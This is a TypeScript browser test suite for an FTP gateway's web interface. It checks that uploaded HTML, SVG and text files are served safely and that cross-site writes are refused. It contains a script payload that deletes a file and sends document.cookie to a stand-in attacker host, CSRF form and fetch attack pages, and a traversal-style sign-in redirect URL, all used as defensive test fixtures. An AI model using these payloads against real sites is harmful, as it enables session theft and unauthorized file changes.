/**
 * Issue 15 items 2 and 12 in a real browser (Chromium) against a gateway over vsftpd:
 *
 * - a user signed in on the browse page (cookie session) who opens an uploaded HTML or SVG file
 *   whose script DELETEs another file and exfiltrates `document.cookie` runs nothing: the files are
 *   attachments, and even with the attachment header stripped the sandbox policy keeps the script
 *   from running; the victim stays on vsftpd's disk and the gateway never saw a DELETE (metrics);
 * - the red-team sign-in URL `next=/browse/../api/v1/files/…` lands on /browse/;
 * - with Basic credentials the browser answers challenges with (as if cached), a page of another
 *   site (a second local HTTP server reached under another host name) that posts a text/plain
 *   form or a no-cors fetch to `/api/v1/dirs/…` is refused: no folder on disk, no FTP MKD; the same
 *   request from the gateway's own page works.
 */

import { access, readdir } from 'node:fs/promises'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type BrowseFixture, launchChromium, startBrowseFixture } from '../../helpers/browser.js'
import { waitFor } from '../../helpers/wait-for.js'

// The attacker's site: another host name (so the browser calls it cross-site), same loopback address.
const EVIL_HOST = 'evil.test'
// A 1x1 PNG: a passive type must still show inline.
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
)

describe('hostile content and cross-site writes in Chromium', () => {
  let fx: BrowseFixture
  let browser: Browser
  let evil: http.Server
  let evilBase: string
  const stolen: string[] = []

  /** The attack script: delete the victim with the page's own CSRF header, and leak the cookie. */
  const attack = () =>
    "fetch('/api/v1/files/victim.txt',{method:'DELETE',headers:{'X-Requested-With':'ftp-gateway'}})" +
    ".then(function(r){document.title='deleted '+r.status});" +
    `new Image().src='${evilBase}/steal?c='+encodeURIComponent(document.cookie);` +
    "document.title='ran';"

  async function deleteRequests(): Promise<number> {
    const text = await (await fetch(`${fx.base}/metrics`)).text()
    let n = 0
    for (const m of text.matchAll(/^ftpgw_http_requests_total\{([^}]*)\} (\d+)/gm)) {
      if (m[1]!.includes('method="DELETE"')) n += Number(m[2])
    }
    return n
  }

  async function victimExists(): Promise<boolean> {
    return access(path.join(fx.ftp.root, 'victim.txt')).then(
      () => true,
      () => false,
    )
  }

  beforeAll(async () => {
    evil = http.createServer((req, res) => {
      const url = req.url ?? '/'
      if (url.startsWith('/steal')) {
        stolen.push(url)
        res.end()
        return
      }
      const target = `${fx.base}/api/v1/dirs`
      const pages: Record<string, string> = {
        // A classic CSRF form: text/plain needs no preflight, and the browser answers the 401 itself.
        '/form': `<form id="f" method="POST" enctype="text/plain" action="${target}/evil-form"><input name="a" value="b"></form><script>document.getElementById('f').submit()</script>`,
        '/urlencoded': `<form id="f" method="POST" action="${target}/evil-urlencoded"><input name="a" value="b"></form><script>document.getElementById('f').submit()</script>`,
        '/fetch': `<script>fetch('${target}/evil-fetch',{method:'POST',mode:'no-cors',credentials:'include',body:'x'}).finally(function(){document.title='sent'})</script>`,
      }
      res.setHeader('content-type', 'text/html')
      res.end(pages[url] ?? 'nothing')
    })
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
    evilBase = `http://${EVIL_HOST}:${(evil.address() as AddressInfo).port}`
    fx = await startBrowseFixture()
    await fx.mkdir('shared')
    await fx.put('victim.txt', 'victim\n')
    await fx.put('shared/report.html', `<!doctype html><title>report</title><script>${attack()}</script>`)
    await fx.put(
      'shared/pic.svg',
      `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>${attack()}</script></svg>`,
    )
    await fx.put('shared/notes.txt', `<script>${attack()}</script>`)
    await fx.put('shared/pixel.png', PNG)
    browser = await launchChromium([`--host-resolver-rules=MAP ${EVIL_HOST} 127.0.0.1`])
  })

  afterAll(async () => {
    await browser?.close()
    await fx?.close()
    await new Promise((resolve) => evil?.close(resolve))
  })

  /** Signs in through the page's own form, starting from the red-team URL. */
  async function signInFromRedTeamUrl(page: Page): Promise<void> {
    await page.goto(`${fx.base}/_browse/login?next=/browse/../api/v1/files/shared/report.html`)
    await page.getByLabel('User name').fill(fx.ftp.user)
    await page.getByLabel('Password').fill(fx.ftp.password)
    await page.getByRole('button', { name: 'Sign in' }).click()
    await page.waitForURL(`${fx.base}/browse/`)
  }

  it('signing in from the red-team URL lands on /browse/, and user HTML/SVG never runs', async () => {
    const context = await browser.newContext({ acceptDownloads: true })
    try {
      const page = await context.newPage()
      await signInFromRedTeamUrl(page)
      expect(page.url()).toBe(`${fx.base}/browse/`)
      expect((await context.cookies()).map((c) => c.name)).toContain('ftpgw_session')

      // Active types are attachments: the browser downloads them instead of rendering them.
      // (WebDAV serves the same headers, asserted in test/faults/hostile-content.test.ts; it takes no cookie.)
      for (const url of ['/api/v1/files/shared/report.html', '/api/v1/files/shared/pic.svg']) {
        const download = page.waitForEvent('download')
        await page.goto(`${fx.base}${url}`).catch(() => undefined)
        expect((await download).suggestedFilename()).toBe(path.basename(url))
      }
      // Text is shown inline, as text: nosniff, and the sandbox has no scripts anyway.
      await page.goto(`${fx.base}/api/v1/files/shared/notes.txt`)
      expect(await page.title()).not.toBe('ran')
      expect(await page.textContent('body')).toContain('<script>')
      // An image still shows inline under the policy.
      await page.goto(`${fx.base}/api/v1/files/shared/pixel.png`)
      expect(
        await page
          .locator('img')
          .evaluate((img) => (img as unknown as { naturalWidth: number }).naturalWidth),
      ).toBe(1)

      // A browser that ignored the attachment: the sandbox alone must stop the script.
      await page.route('**/api/v1/files/shared/*', async (route) => {
        const response = await route.fetch()
        const headers = { ...response.headers() }
        delete headers['content-disposition']
        await route.fulfill({ response, headers })
      })
      for (const url of ['/api/v1/files/shared/report.html', '/api/v1/files/shared/pic.svg']) {
        const seen = await page.goto(`${fx.base}${url}`)
        expect(seen?.headers()['content-security-policy'], url).toMatch(/^sandbox;/)
        expect(await page.title(), url).not.toMatch(/ran|deleted/)
      }
      await page.unroute('**/api/v1/files/shared/*')
      // The page's own script still works after all this (same session, same origin).
      await page.goto(`${fx.base}/browse/shared/`)
      expect(await page.title()).toContain('shared')
    } finally {
      await context.close()
    }
    expect(await victimExists()).toBe(true)
    expect(await deleteRequests()).toBe(0)
    expect(stolen).toEqual([])
    const log = (await fx.ftp.commandLog()).join('\n')
    expect(log).not.toMatch(/"DELE /)
  })

  it('another site cannot write with the Basic credentials the browser holds; the gateway page can', async () => {
    const before = (await fx.ftp.commandLog()).length
    const context = await browser.newContext({
      httpCredentials: { username: fx.ftp.user, password: fx.ftp.password },
    })
    try {
      const page = await context.newPage()
      const statuses: number[] = []
      page.on('response', (r) => {
        if (r.url().startsWith(`${fx.base}/api/v1/dirs/`)) statuses.push(r.status())
      })
      for (const attackPage of ['/form', '/urlencoded']) {
        await page.goto(`${evilBase}${attackPage}`)
        await page.waitForURL(`${fx.base}/**`)
        await page.waitForLoadState()
      }
      await page.goto(`${evilBase}/fetch`)
      expect(await waitFor(async () => (await page.title()) === 'sent', 10_000)).toBe(true)
      expect(statuses.length).toBeGreaterThanOrEqual(2)
      expect(statuses.every((s) => s === 403)).toBe(true)

      // The same write from the gateway's own page goes through.
      await page.goto(`${fx.base}/browse/`)
      const status = await page.evaluate(async () => {
        const res = await fetch('/api/v1/dirs/made-here', { method: 'POST' })
        return res.status
      })
      expect(status).toBe(201)
    } finally {
      await context.close()
    }
    const names = await readdir(fx.ftp.root)
    expect(names).toContain('made-here')
    expect(names.filter((n) => n.startsWith('evil-'))).toEqual([])
    const mkd = (await fx.ftp.commandLog()).slice(before).filter((l) => /"MKD /.test(l))
    expect(mkd).toHaveLength(1)
    expect(mkd[0]).toContain('made-here')
  })
})
